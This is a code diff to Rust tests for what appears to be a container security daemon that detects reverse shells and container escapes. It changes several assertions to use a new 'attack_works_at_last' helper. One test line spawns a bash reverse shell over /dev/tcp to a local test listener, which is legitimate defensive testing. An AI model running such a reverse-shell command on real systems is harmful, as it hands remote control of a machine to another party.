@@ -2,7 +2,7 @@
 
 use crate::container::{Container, Group, end_with_us, wait};
 use crate::daemon::{ALERT_WAIT, Daemon, Pins, Settings, is_alert, outcome, program};
-use crate::faults::attack_works;
+use crate::faults::{attack_works, attack_works_at_last};
 use crate::lab::Peer;
 use crate::{pace, shared};
 use anyhow::{Context, Result, ensure};
@@ -46,7 +46,7 @@ pub fn container_to_cron_child_is_one_incident() -> Result<()> {
     let escape = daemon.await_alert("escape", container.id())?;
     // A later act of the same kind in another container has nothing to do with it.
     let other = Container::start(&group)?;
-    ensure!(attack_works(&other)?, "monitor mode touched it");
+    ensure!(attack_works_at_last(&other)?, "monitor mode touched it");
     let elsewhere = daemon.await_alert("reverse_shell", other.id())?;
 
     let cron = Command::new("/bin/sh").args(["-c", &command]).stdin(Stdio::null()).stdout(Stdio::null()).spawn()?;
@@ -108,7 +108,7 @@ pub fn exception_spares_what_it_names() -> Result<()> {
         format!("{base}[[exception]]\nkinds = [\"reverse_shell\"]\ncontainer = \"{}\"\n{reason}\n{more}\n", admin.id())
     };
     reload(&daemon, &rule(""), 1)?;
-    ensure!(attack_works(&admin)?, "the excepted shell was stopped");
+    ensure!(attack_works_at_last(&admin)?, "the excepted shell was stopped");
     ensure!(!attack_works(&other)?, "the exception reached another container");
     daemon.await_alert("reverse_shell", other.id())?;
     ensure!(daemon.alerts("reverse_shell", admin.id()).len() == before, "it was told");
@@ -118,7 +118,7 @@ pub fn exception_spares_what_it_names() -> Result<()> {
 
     // bash is what runs: the kernel leaves it to the daemon, and the daemon spares or kills.
     reload(&daemon, &rule("exe = \"*/bash\""), 2)?;
-    ensure!(attack_works(&admin)?, "the excepted program was stopped");
+    ensure!(attack_works_at_last(&admin)?, "the excepted program was stopped");
     reload(&daemon, &rule("exe = \"*/zsh\""), 3)?;
     let peer = Peer::shell(admin.listen()?, "", pace::wait(Duration::from_secs(6)))?;
     let shell = admin.spawn(&format!("bash -c 'bash -i >& /dev/tcp/127.0.0.1/{} 0>&1'", peer.port))?;
